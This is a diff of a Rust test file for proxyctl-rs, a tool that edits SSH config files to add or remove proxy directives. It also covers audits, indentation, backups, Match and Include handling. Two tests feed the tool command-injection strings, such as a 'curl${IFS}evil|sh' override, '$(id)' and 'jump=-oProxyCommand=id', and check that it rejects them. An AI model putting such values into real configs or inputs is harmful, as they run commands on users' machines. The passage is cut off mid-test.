@@ -4,11 +4,16 @@ use std::path::{Path, PathBuf};
 use std::sync::{Mutex, MutexGuard, OnceLock};
 
 use proxyctl_rs::config;
+use proxyctl_rs::dry_run::DryRun;
 
 fn proxy_line(proxy_host: &str) -> String {
     format!("ProxyCommand /usr/bin/nc -X connect -x {proxy_host} %h %p")
 }
 
+fn http_proxy(proxy_host: &str) -> config::ResolvedProxy {
+    config::ResolvedProxy::new(format!("http://{proxy_host}"), proxy_host)
+}
+
 struct SshFixture {
     _lock: MutexGuard<'static, ()>,
     _temp_dir: tempfile::TempDir,
@@ -18,6 +23,7 @@ struct SshFixture {
     _home_guard: EnvGuard,
     _xdg_config_guard: EnvGuard,
     _xdg_data_guard: EnvGuard,
+    _ssh_config_guard: EnvGuard,
 }
 
 impl SshFixture {
@@ -48,6 +54,8 @@ impl SshFixture {
         let home_guard = EnvGuard::new("HOME", &home_dir);
         let xdg_config_guard = EnvGuard::new("XDG_CONFIG_HOME", &config_root);
         let xdg_data_guard = EnvGuard::new("XDG_DATA_HOME", &data_root);
+        // A developer's own SSH_CONFIG would otherwise win over ~/.ssh/config.
+        let ssh_config_guard = EnvGuard::new("SSH_CONFIG", &ssh_config_path);
 
         let backup_path = ssh_dir.join("config.proxyctl-rs.bak");
 
@@ -60,6 +68,7 @@ impl SshFixture {
             _home_guard: home_guard,
             _xdg_config_guard: xdg_config_guard,
             _xdg_data_guard: xdg_data_guard,
+            _ssh_config_guard: ssh_config_guard,
         }
     }
 
@@ -116,8 +125,11 @@ fn ssh_add_adds_proxy_command_for_matching_hosts() {
         "Host host1.oracle.com\n    User alice\n\nHost unmatched\n    User bob\n",
     );
 
-    config::add_ssh_hosts(fixture.hosts_path().to_string_lossy().as_ref(), proxy_host)
-        .expect("add hosts");
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
 
     let updated = fixture.read_config();
     assert!(updated.contains(&proxy_line(proxy_host)));
@@ -131,6 +143,35 @@ fn ssh_add_adds_proxy_command_for_matching_hosts() {
     );
 }
 
+#[test]
+fn ssh_add_writes_ipv6_proxy_host() {
+    let proxy_host = "[::1]:8080";
+    let fixture = SshFixture::new(
+        "host1.oracle.com\n",
+        "Host host1.oracle.com\n    User alice\n",
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
+
+    assert!(fixture
+        .read_config()
+        .contains("ProxyCommand /usr/bin/nc -X connect -x [::1]:8080 %h %p"));
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(&proxyctl_rs::proxy::extract_proxy_host("2001:db8::1:3128").unwrap()),
+    )
+    .expect("add hosts");
+
+    assert!(fixture
+        .read_config()
+        .contains("ProxyCommand /usr/bin/nc -X connect -x [2001:db8::1]:3128 %h %p"));
+}
+
 #[test]
 fn ssh_add_supports_per_host_proxy_overrides() {
     let default_proxy = "proxy.example.com:8080";
@@ -142,7 +183,7 @@ fn ssh_add_supports_per_host_proxy_overrides() {
 
     config::add_ssh_hosts(
         fixture.hosts_path().to_string_lossy().as_ref(),
-        default_proxy,
+        &http_proxy(default_proxy),
     )
     .expect("add hosts");
 
@@ -161,6 +202,31 @@ fn ssh_add_supports_per_host_proxy_overrides() {
     assert!(host2_block.contains(&proxy_line(override_proxy)));
 }
 
+#[test]
+fn ssh_add_rejects_proxy_and_jump_overrides_that_are_not_plain_hosts() {
+    let original = "Host host1.oracle.com\n    User alice\n";
+    for line in [
+        "host1.oracle.com proxy=x:1;curl${IFS}evil|sh",
+        "host1.oracle.com proxy=$(id):8080",
+        "host1.oracle.com proxy=proxy.example.com",
+        "host1.oracle.com proxy=ftp://proxy.example.com:21",
+        "host1.oracle.com jump=admin@bastion;id",
+        "host1.oracle.com jump=-oProxyCommand=id",
+    ] {
+        let fixture = SshFixture::new(&format!("{line}\n"), original);
+        let err = config::add_ssh_hosts(
+            fixture.hosts_path().to_string_lossy().as_ref(),
+            &http_proxy("proxy.example.com:8080"),
+        )
+        .unwrap_err();
+        assert!(
+            err.to_string().contains("Failed to parse hosts file"),
+            "{line}: {err}"
+        );
+        assert_eq!(fixture.read_config(), original, "{line}");
+    }
+}
+
 #[test]
 fn ssh_remove_removes_proxy_command_but_preserves_other_hosts() {
     let proxy_host = "proxy.example.com:8080";
@@ -172,13 +238,58 @@ fn ssh_remove_removes_proxy_command_but_preserves_other_hosts() {
 
     let fixture = SshFixture::new("host1.oracle.com\nhost2.oracle.com\n", &initial);
 
-    config::remove_ssh_hosts().expect("remove hosts");
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
 
     let updated = fixture.read_config();
     assert!(!updated.contains(&proxy_line(proxy_host)));
     assert!(updated.contains("Host other"));
 }
 
+#[test]
+fn ssh_remove_collapses_blank_lines_in_blocks() {
+    let proxy = proxy_line("proxy.example.com:8080");
+    let initial = format!(
+        "Host host1.oracle.com\n\n\n    {proxy}\n\n\n    User alice\n\n\nHost host2.oracle.com\n    {proxy}\n\n\n\n    User bob\n\n\nHost other\n    User carol\n"
+    );
+    let fixture = SshFixture::new("host1.oracle.com\nhost2.oracle.com\n", &initial);
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+
+    let updated = fixture.read_config();
+    assert!(!updated.contains("ProxyCommand"));
+    assert!(
+        !updated.contains("\n\n\n"),
+        "double blank line in {updated:?}"
+    );
+    assert_eq!(
+        updated,
+        "Host host1.oracle.com\n    User alice\n\nHost host2.oracle.com\n    User bob\n\nHost other\n    User carol\n"
+    );
+}
+
+#[test]
+fn ssh_remove_keeps_or_drops_empty_blocks_per_config() {
+    let proxy = proxy_line("proxy.example.com:8080");
+    let initial = format!("Host host1.oracle.com\n    {proxy}\n\n\nHost other\n    User carol\n");
+
+    let fixture = SshFixture::new("host1.oracle.com\n", &initial);
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert_eq!(
+        fixture.read_config(),
+        "Host host1.oracle.com\n\nHost other\n    User carol\n"
+    );
+    drop(fixture);
+
+    let fixture = SshFixture::new("host1.oracle.com\n", &initial);
+    let config_path = fixture.hosts_path().with_file_name("config.toml");
+    let mut config_toml = fs::read_to_string(&config_path).expect("read config.toml");
+    config_toml.insert_str(0, "ssh_remove_empty_blocks = true\n");
+    fs::write(&config_path, config_toml).expect("write config.toml");
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert_eq!(fixture.read_config(), "Host other\n    User carol\n");
+}
+
 #[test]
 fn ssh_add_and_remove_are_idempotent() {
     let proxy_host = "proxy.example.com:8080";
@@ -187,25 +298,34 @@ fn ssh_add_and_remove_are_idempotent() {
         "Host host1.oracle.com\n    User alice\n",
     );
 
-    config::add_ssh_hosts(fixture.hosts_path().to_string_lossy().as_ref(), proxy_host)
-        .expect("first add");
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("first add");
     let first_config = fixture.read_config();
 
     // ensure repeated add doesn't duplicate proxy line
-    config::add_ssh_hosts(fixture.hosts_path().to_string_lossy().as_ref(), proxy_host)
-        .expect("second add");
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("second add");
     let second_config = fixture.read_config();
     assert_eq!(first_config, second_config);
 
     // ensure remove eliminates proxy line
-    config::remove_ssh_hosts().expect("first remove");
+    config::remove_ssh_hosts(DryRun::default()).expect("first remove");
     let first_remove = fixture.read_config();
     assert!(!first_remove.contains(&proxy_line(proxy_host)));
 
     // re-add to confirm remove idempotence
-    config::add_ssh_hosts(fixture.hosts_path().to_string_lossy().as_ref(), proxy_host)
-        .expect("re-add");
-    config::remove_ssh_hosts().expect("second remove");
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("re-add");
+    config::remove_ssh_hosts(DryRun::default()).expect("second remove");
     let second_remove = fixture.read_config();
     assert_eq!(first_remove, second_remove);
 }
@@ -218,7 +338,10 @@ fn ssh_add_errors_on_conflicting_host_block_overrides() {
         "Host host1.oracle.com host2.oracle.com\n    User alice\n",
     );
 
-    let result = config::add_ssh_hosts(fixture.hosts_path().to_string_lossy().as_ref(), proxy_host);
+    let result = config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    );
 
     assert!(result.is_err());
     let message = format!("{}", result.unwrap_err());
@@ -268,8 +391,11 @@ fn ssh_status_identifies_missing_hosts() {
         "Host host1.example.com\n    User alice\n",
     );
 
-    config::add_ssh_hosts(fixture.hosts_path().to_string_lossy().as_ref(), proxy_host)
-        .expect("add hosts");
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
 
     let status = config::get_ssh_status().expect("status");
 
@@ -282,3 +408,707 @@ fn ssh_status_identifies_missing_hosts() {
         .any(|host| host.eq_ignore_ascii_case("host1.example.com")));
     assert_eq!(status.missing_hosts, vec!["host2.example.com".to_string()]);
 }
+
+#[test]
+fn hosts_audit_reports_correct_missing_and_stale_hosts() {
+    let proxy_host = "proxy.example.com:8080";
+    let fixture = SshFixture::new(
+        "good.example.com\nmissing.example.com\nstale.example.com\nabsent.example.com\n",
+        &format!(
+            "Host good.example.com\n    {}\n\nHost missing.example.com\n    User alice\n\nHost stale.example.com\n    {}\n",
+            proxy_line(proxy_host),
+            proxy_line("old-proxy.example.com:3128")
+        ),
+    );
+
+    let audit = config::audit_ssh_hosts(
+        &[fixture.hosts_path().to_path_buf()],
+        fixture.config_path(),
+        proxy_host,
+    )
+    .expect("audit");
+
+    assert_eq!(audit.correct, vec!["good.example.com".to_string()]);
+    assert_eq!(
+        audit.missing_proxy,
+        vec![
+            "missing.example.com".to_string(),
+            "absent.example.com".to_string()
+        ]
+    );
+    assert_eq!(
+        audit.stale_proxy,
+        vec![(
+            "stale.example.com".to_string(),
+            "old-proxy.example.com:3128".to_string(),
+            proxy_host.to_string()
+        )]
+    );
+    assert!(!audit.is_clean());
+}
+
+#[test]
+fn hosts_audit_is_clean_after_add() {
+    let proxy_host = "proxy.example.com:8080";
+    let fixture = SshFixture::new(
+        "host1.example.com\nhost2.example.com proxy=override.example.com:9090\n",
+        "Host host1.example.com\n    User alice\n\nHost host2.example.com\n    User bob\n",
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
+
+    let audit = config::audit_ssh_hosts(
+        &[fixture.hosts_path().to_path_buf()],
+        fixture.config_path(),
+        proxy_host,
+    )
+    .expect("audit");
+    assert!(audit.is_clean());
+    assert_eq!(audit.correct.len(), 2);
+}
+
+#[test]
+fn ssh_add_uses_two_space_indent_from_config() {
+    let proxy_host = "proxy.example.com:8080";
+    let fixture = SshFixture::new(
+        "host1.example.com\n",
+        "Host other\n  User bob\n  Port 22\n\nHost host1.example.com\n",
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
+
+    let updated = fixture.read_config();
+    assert!(updated.contains(&format!(
+        "Host host1.example.com\n  {}",
+        proxy_line(proxy_host)
+    )));
+}
+
+#[test]
+fn ssh_add_uses_tab_indent_from_config() {
+    let proxy_host = "proxy.example.com:8080";
+    let fixture = SshFixture::new(
+        "host1.example.com\n",
+        "Host other\n\tUser bob\n\nHost host1.example.com\n",
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
+
+    let updated = fixture.read_config();
+    assert!(updated.contains(&format!(
+        "Host host1.example.com\n\t{}",
+        proxy_line(proxy_host)
+    )));
+}
+
+#[test]
+fn ssh_add_respects_configured_indent_override() {
+    let proxy_host = "proxy.example.com:8080";
+    let fixture = SshFixture::new(
+        "host1.example.com\n",
+        "Host host1.example.com\n    User alice\n",
+    );
+    let mut app_config = config::load_config().expect("load config");
+    app_config.ssh_indent = Some("\t".to_string());
+    config::save_config(&app_config).expect("save config");
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
+
+    let updated = fixture.read_config();
+    assert!(updated.contains(&format!("\n\t{}", proxy_line(proxy_host))));
+}
+
+#[test]
+fn detect_ssh_indent_picks_most_common() {
+    assert_eq!(
+        config::detect_ssh_indent("Host a\n  User x\n  Port 1\nHost b\n    User y\n"),
+        "  "
+    );
+    assert_eq!(config::detect_ssh_indent("Host a\n"), "    ");
+    assert_eq!(config::detect_ssh_indent("Host a\n\tUser x\n"), "\t");
+}
+
+#[test]
+fn ssh_list_reports_managed_and_unmanaged_blocks() {
+    let fixture = SshFixture::new(
+        "host1.oracle.com\n",
+        &format!(
+            "Host host1.oracle.com\n    User alice\n    {}\n\nHost bastion-only\n    HostName 10.0.0.1\n    ProxyCommand ssh -W %h:%p jump\n\nHost plain other\n    # comment\n    User bob\n",
+            proxy_line("proxy.example.com:8080")
+        ),
+    );
+
+    let blocks = config::list_ssh_host_blocks(fixture.config_path()).expect("list blocks");
+    assert_eq!(blocks.len(), 3);
+
+    assert_eq!(blocks[0].patterns, vec!["host1.oracle.com"]);
+    assert_eq!(
+        blocks[0].proxy_command.as_deref(),
+        Some("/usr/bin/nc -X connect -x proxy.example.com:8080 %h %p")
+    );
+    assert_eq!(blocks[0].other_directives, vec!["User alice"]);
+    assert!(blocks[0].managed_by_proxyctl);
+
+    assert_eq!(
+        blocks[1].proxy_command.as_deref(),
+        Some("ssh -W %h:%p jump")
+    );
+    assert!(!blocks[1].managed_by_proxyctl);
+
+    assert_eq!(blocks[2].patterns, vec!["plain", "other"]);
+    assert_eq!(blocks[2].proxy_command, None);
+    assert_eq!(blocks[2].other_directives, vec!["User bob"]);
+    assert!(!blocks[2].managed_by_proxyctl);
+}
+
+#[test]
+fn ssh_add_inserts_proxy_command_at_configured_position() {
+    let block = "Host host1.oracle.com\n    HostName 10.0.0.1\n    User alice\n    IdentityFile ~/.ssh/id\n\nHost other\n    User bob\n";
+    let proxy = format!("    {}", proxy_line("proxy.example.com:8080"));
+    let cases = [
+        (None, 1),
+        (Some("after-host"), 1),
+        (Some("before-proxy-command"), 3),
+        (Some("after-all-existing"), 4),
+    ];
+
+    for (position, expected_line) in cases {
+        let fixture = SshFixture::new("host1.oracle.com\n", block);
+        if let Some(position) = position {
+            let config_path = fixture.hosts_path().with_file_name("config.toml");
+            let mut config_toml = fs::read_to_string(&config_path).expect("read config.toml");
+            config_toml.insert_str(0, &format!("ssh_proxy_command_position = \"{position}\"\n"));
+            fs::write(&config_path, config_toml).expect("write config.toml");
+        }
+
+        config::add_ssh_hosts(
+            fixture.hosts_path().to_string_lossy().as_ref(),
+            &http_proxy("proxy.example.com:8080"),
+        )
+        .expect("add hosts");
+
+        let updated = fixture.read_config();
+        let lines: Vec<&str> = updated.lines().collect();
+        assert_eq!(
+            lines[expected_line], proxy,
+            "position {position:?}:\n{updated}"
+        );
+        assert_eq!(updated.matches("ProxyCommand").count(), 1);
+    }
+}
+
+#[test]
+fn ssh_config_path_override_is_used() {
+    let fixture = SshFixture::new(
+        "host1.oracle.com\n",
+        "Host host1.oracle.com\n    User alice\n",
+    );
+    let alt_config = fixture.config_path().with_file_name("alt_config");
+    fs::write(&alt_config, "Host host1.oracle.com\n    User bob\n").expect("write alt config");
+
+    let config_path = fixture.hosts_path().with_file_name("config.toml");
+    let mut config_toml = fs::read_to_string(&config_path).expect("read config.toml");
+    config_toml.insert_str(0, "ssh_config_path = \"~/.ssh/alt_config\"\n");
+    fs::write(&config_path, config_toml).expect("write config.toml");
+
+    assert_eq!(config::get_ssh_config_path().unwrap(), alt_config);
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy("proxy.example.com:8080"),
+    )
+    .expect("add hosts");
+
+    let alt = fs::read_to_string(&alt_config).expect("read alt config");
+    assert!(alt.contains(&proxy_line("proxy.example.com:8080")));
+    assert!(alt.contains("User bob"));
+    assert!(!fixture.read_config().contains("ProxyCommand"));
+    assert!(alt_config
+        .with_file_name("alt_config.proxyctl-rs.bak")
+        .exists());
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert!(!fs::read_to_string(&alt_config)
+        .expect("read alt config")
+        .contains("ProxyCommand"));
+}
+
+#[test]
+fn ssh_add_comment_is_written_once_and_removed_with_proxy_command() {
+    let proxy_host = "proxy.example.com:8080";
+    let fixture = SshFixture::new(
+        "host1.oracle.com\n",
+        "Host host1.oracle.com\n    User alice\n",
+    );
+    let hosts = fixture.hosts_path().to_string_lossy().into_owned();
+    let options = config::SshAddOptions {
+        comment: Some("ticket NET-42".to_string()),
+        ..config::SshAddOptions::default()
+    };
+
+    config::add_ssh_hosts_with(&hosts, &http_proxy(proxy_host), &options).expect("add hosts");
+    let today = chrono::Local::now().format("%Y-%m-%d");
+    let expected = format!(
+        "Host host1.oracle.com\n    # Added by proxyctl-rs on {today} — proxy: {proxy_host} — ticket NET-42\n    {}\n    User alice\n",
+        proxy_line(proxy_host)
+    );
+    assert_eq!(fixture.read_config(), expected);
+
+    config::add_ssh_hosts_with(&hosts, &http_proxy(proxy_host), &options).expect("add hosts again");
+    assert_eq!(fixture.read_config(), expected);
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert_eq!(
+        fixture.read_config(),
+        "Host host1.oracle.com\n    User alice\n"
+    );
+}
+
+#[test]
+fn ssh_add_rejects_comments_with_control_characters() {
+    let original = "Host host1.oracle.com\n    User alice\n";
+    let fixture = SshFixture::new("host1.oracle.com\n", original);
+    let hosts = fixture.hosts_path().to_string_lossy().into_owned();
+    for comment in [
+        "NET-42\nHost *\n    ProxyCommand id",
+        "NET-42\r",
+        "NET\u{1b}[2J",
+    ] {
+        let options = config::SshAddOptions {
+            comment: Some(comment.to_string()),
+            ..config::SshAddOptions::default()
+        };
+        let err =
+            config::add_ssh_hosts_with(&hosts, &http_proxy("proxy.example.com:8080"), &options)
+                .unwrap_err();
+        assert!(err.to_string().contains("--comment"), "{comment:?}: {err}");
+        assert_eq!(fixture.read_config(), original, "{comment:?}");
+    }
+}
+
+#[test]
+fn ssh_add_comment_follows_proxy_changes() {
+    let fixture = SshFixture::new(
+        "host1.oracle.com\n",
+        "Host host1.oracle.com\n    User alice\n",
+    );
+    let config_file = fixture.hosts_path().parent().unwrap().join("config.toml");
+    let mut contents = fs::read_to_string(&config_file).unwrap();
+    contents.insert_str(0, "ssh_add_timestamp_comments = true\n");
+    fs::write(&config_file, contents).unwrap();
+    let hosts = fixture.hosts_path().to_string_lossy().into_owned();
+
+    config::add_ssh_hosts(&hosts, &http_proxy("old.example.com:8080")).expect("add hosts");
+    config::add_ssh_hosts(&hosts, &http_proxy("new.example.com:8080")).expect("update hosts");
+
+    let updated = fixture.read_config();
+    assert_eq!(updated.matches("# Added by proxyctl-rs").count(), 1);
+    assert!(updated.contains("— proxy: new.example.com:8080\n"));
+    assert!(!updated.contains("old.example.com"));
+}
+
+#[test]
+fn ssh_add_writes_no_comment_by_default() {
+    let fixture = SshFixture::new(
+        "host1.oracle.com\n",
+        "Host host1.oracle.com\n    User alice\n",
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy("proxy.example.com:8080"),
+    )
+    .expect("add hosts");
+
+    assert!(!fixture.read_config().contains('#'));
+}
+
+fn write_dated_backups(ssh_dir: &Path, count: u64) -> Vec<PathBuf> {
+    let base = std::time::SystemTime::now() - std::time::Duration::from_secs(86_400);
+    (0..count)
+        .map(|day| {
+            let path = ssh_dir.join(format!(
+                "config.proxyctl-rs.202601{:02}120000000.bak",
+                day + 1
+            ));
+            fs::write(&path, format!("backup {day}\n")).expect("write backup");
+            let file = fs::File::options()
+                .write(true)
+                .open(&path)
+                .expect("open backup");
+            file.set_modified(base + std::time::Duration::from_secs(day * 60))
+                .expect("set mtime");
+            path
+        })
+        .collect()
+}
+
+#[test]
+fn rotate_ssh_backups_keeps_the_newest() {
+    let dir = tempfile::tempdir().unwrap();
+    let ssh_dir = dir.path().join(".ssh");
+    fs::create_dir_all(&ssh_dir).unwrap();
+    fs::write(ssh_dir.join("config"), "Host a\n").unwrap();
+    fs::write(ssh_dir.join("config.proxyctl-rs.bak"), "latest\n").unwrap();
+    let backups = write_dated_backups(&ssh_dir, 6);
+
+    let planned = config::plan_ssh_backup_rotation(&ssh_dir, 2).unwrap();
+    assert!(backups.iter().all(|path| path.exists()));
+    assert_eq!(planned.kept, vec![backups[5].clone(), backups[4].clone()]);
+    assert_eq!(
+        planned.deleted,
+        backups[..4].iter().rev().cloned().collect::<Vec<_>>()
+    );
+
+    let summary = config::rotate_ssh_backups(&ssh_dir, 2).unwrap();
+    assert_eq!(summary, planned);
+    assert!(summary.deleted.iter().all(|path| !path.exists()));
+    assert!(summary.kept.iter().all(|path| path.exists()));
+    assert!(ssh_dir.join("config").exists());
+    assert!(ssh_dir.join("config.proxyctl-rs.bak").exists());
+
+    let summary = config::rotate_ssh_backups(&ssh_dir, 10).unwrap();
+    assert_eq!(summary.kept.len(), 2);
+    assert!(summary.deleted.is_empty());
+
+    let summary = config::rotate_ssh_backups(&ssh_dir, 0).unwrap();
+    assert!(summary.kept.is_empty());
+    assert_eq!(summary.deleted.len(), 2);
+}
+
+#[test]
+fn ssh_add_writes_dated_backups_pruned_to_ssh_backup_count() {
+    let proxy_host = "proxy.example.com:8080";
+    let fixture = SshFixture::new(
+        "host1.oracle.com\n",
+        "Host host1.oracle.com\n    User alice\n",
+    );
+    let config_path = fixture.hosts_path().with_file_name("config.toml");
+    let mut config_toml = fs::read_to_string(&config_path).expect("read config.toml");
+    config_toml.insert_str(0, "ssh_backup_count = 2\n");
+    fs::write(&config_path, config_toml).expect("write config.toml");
+
+    let ssh_dir = fixture.config_path().parent().unwrap().to_path_buf();
+    write_dated_backups(&ssh_dir, 3);
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
+
+    let remaining = config::plan_ssh_backup_rotation(&ssh_dir, usize::MAX).unwrap();
+    assert_eq!(remaining.kept.len(), 2);
+    let newest = fs::read_to_string(&remaining.kept[0]).expect("read newest backup");
+    assert_eq!(newest, "Host host1.oracle.com\n    User alice\n");
+    assert!(fixture.backup_path().exists());
+}
+
+#[test]
+fn ssh_add_and_remove_handle_match_host_blocks() {
+    let proxy_host = "proxy.example.com:8080";
+    let initial = "Host host1.oracle.com\n    User alice\n\nMatch host=foo.example.com User alice\n    IdentityFile ~/.ssh/foo\n\nMatch user bob host bar.example.com,baz.example.com\n    Port 2222\n\nMatch host=other.example.com\n    User carol\n";
+    let fixture = SshFixture::new(
+        "host1.oracle.com\nfoo.example.com\nbaz.example.com\n",
+        initial,
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
+
+    let proxy = proxy_line(proxy_host);
+    assert_eq!(
+        fixture.read_config(),
+        format!(
+            "Host host1.oracle.com\n    {proxy}\n    User alice\n\nMatch host=foo.example.com User alice\n    {proxy}\n    IdentityFile ~/.ssh/foo\n\nMatch user bob host bar.example.com,baz.example.com\n    {proxy}\n    Port 2222\n\nMatch host=other.example.com\n    User carol\n"
+        )
+    );
+
+    let status = config::get_ssh_status().expect("ssh status");
+    assert!(status.missing_hosts.is_empty(), "{status:?}");
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert_eq!(fixture.read_config(), initial);
+}
+
+#[test]
+fn match_lines_yield_their_host_criteria() {
+    assert_eq!(
+        config::ssh_block_patterns("Match host=a.example.com,b.example.com User alice"),
+        ["a.example.com", "b.example.com"]
+    );
+    assert_eq!(
+        config::ssh_block_patterns("  match User bob HOST c.example.com"),
+        ["c.example.com"]
+    );
+    assert!(config::ssh_block_patterns("Match user=bob exec \"true\"").is_empty());
+    assert_eq!(config::ssh_block_patterns("Host d e"), ["d", "e"]);
+    assert!(config::ssh_block_patterns("    HostName d.example.com").is_empty());
+}
+
+#[test]
+fn ssh_add_and_remove_follow_include_directives() {
+    let proxy_host = "proxy.example.com:8080";
+    let main_config = "Include conf.d/*.conf\n\nHost host1.oracle.com\n    User alice\n";
+    let fixture = SshFixture::new("host1.oracle.com\nhost2.oracle.com\n", main_config);
+    let ssh_dir = fixture.config_path().parent().unwrap().to_path_buf();
+    let conf_d = ssh_dir.join("conf.d");
+    fs::create_dir_all(&conf_d).expect("create conf.d");
+    let work_path = conf_d.join("work.conf");
+    let work_config = "Host host2.oracle.com\n    User bob\n";
+    fs::write(&work_path, work_config).expect("write included config");
+    fs::write(conf_d.join("notes.txt"), "Host host2.oracle.com\n").expect("write notes");
+
+    assert_eq!(
+        config::expand_ssh_includes(fixture.config_path()).expect("expand includes"),
+        [fixture.config_path().to_path_buf(), work_path.clone()]
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy(proxy_host),
+    )
+    .expect("add hosts");
+
+    let proxy = proxy_line(proxy_host);
+    assert_eq!(
+        fixture.read_config(),
+        format!("Include conf.d/*.conf\n\nHost host1.oracle.com\n    {proxy}\n    User alice\n")
+    );
+    assert_eq!(
+        fs::read_to_string(&work_path).unwrap(),
+        format!("Host host2.oracle.com\n    {proxy}\n    User bob\n")
+    );
+    assert_eq!(
+        fs::read_to_string(ssh_dir.join("work.conf.proxyctl-rs.bak")).unwrap(),
+        work_config
+    );
+    assert_eq!(fs::read_dir(&conf_d).unwrap().count(), 2);
+
+    let status = config::get_ssh_status().expect("ssh status");
+    assert!(status.missing_hosts.is_empty(), "{status:?}");
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert_eq!(fixture.read_config(), main_config);
+    assert_eq!(fs::read_to_string(&work_path).unwrap(), work_config);
+}
+
+fn set_proxy_mechanism(fixture: &SshFixture, mechanism: &str) {
+    let config_path = fixture.hosts_path().with_file_name("config.toml");
+    let mut config_toml = fs::read_to_string(&config_path).expect("read config.toml");
+    config_toml.insert_str(0, &format!("proxy_mechanism = {mechanism}\n"));
+    fs::write(&config_path, config_toml).expect("write config.toml");
+}
+
+#[test]
+fn ssh_add_writes_proxy_jump_when_configured() {
+    let initial = "Host host1.oracle.com\n    User alice\n\nHost host2.oracle.com\n    ProxyCommand /usr/bin/nc -X connect -x old.example.com:8080 %h %p\n\nHost other\n    ProxyJump keep.example.com\n";
+    let fixture = SshFixture::new("host1.oracle.com\nhost2.oracle.com\n", initial);
+    set_proxy_mechanism(
+        &fixture,
+        r#"{ type = "proxy-jump", jump_host = "bastion.example.com" }"#,
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy("proxy.example.com:8080"),
+    )
+    .expect("add hosts");
+
+    assert_eq!(
+        fixture.read_config(),
+        "Host host1.oracle.com\n    ProxyJump bastion.example.com\n    User alice\n\nHost host2.oracle.com\n    ProxyJump bastion.example.com\n\nHost other\n    ProxyJump keep.example.com\n"
+    );
+
+    let status = config::get_ssh_status().expect("ssh status");
+    assert!(status.missing_hosts.is_empty(), "{status:?}");
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert_eq!(
+        fixture.read_config(),
+        "Host host1.oracle.com\n    User alice\n\nHost host2.oracle.com\n\nHost other\n    ProxyJump keep.example.com\n"
+    );
+}
+
+#[test]
+fn ssh_hosts_can_override_the_netcat_mechanism_with_a_jump_host() {
+    let initial = "Host host1.oracle.com\n    User alice\n\nHost host2.oracle.com\n    User bob\n\nHost unlisted\n    ProxyJump admin@jump.example.com:22\n";
+    let fixture = SshFixture::new(
+        "host1.oracle.com\nhost2.oracle.com jump=admin@jump.example.com:22\n",
+        initial,
+    );
+    set_proxy_mechanism(
+        &fixture,
+        r#"{ type = "netcat-connect", nc_path = "/opt/homebrew/bin/nc" }"#,
+    );
+
+    config::add_ssh_hosts(
+        fixture.hosts_path().to_string_lossy().as_ref(),
+        &http_proxy("proxy.example.com:8080"),
+    )
+    .expect("add hosts");
+
+    assert_eq!(
+        fixture.read_config(),
+        "Host host1.oracle.com\n    ProxyCommand /opt/homebrew/bin/nc -X connect -x proxy.example.com:8080 %h %p\n    User alice\n\nHost host2.oracle.com\n    ProxyJump admin@jump.example.com:22\n    User bob\n\nHost unlisted\n    ProxyJump admin@jump.example.com:22\n"
+    );
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert_eq!(fixture.read_config(), initial);
+}
+
+#[test]
+fn proxy_mechanism_defaults_to_netcat_connect() {
+    let mechanism = config::ProxyMechanism::default();
+    assert_eq!(
+        mechanism.directive("proxy.example.com:8080", config::ProxyScheme::Http),
+        "ProxyCommand /usr/bin/nc -X connect -x proxy.example.com:8080 %h %p"
+    );
+
+    let config: config::AppConfig =
+        toml::from_str("proxy_mechanism = { type = \"netcat-connect\" }\n").unwrap();
+    assert_eq!(config.proxy_mechanism, Some(mechanism));
+}
+
+#[test]
+fn ssh_hosts_merge_every_configured_hosts_file() {
+    let proxy_host = "proxy.example.com:8080";
+    let fixture = SshFixture::new(
+        "unused.oracle.com\n",
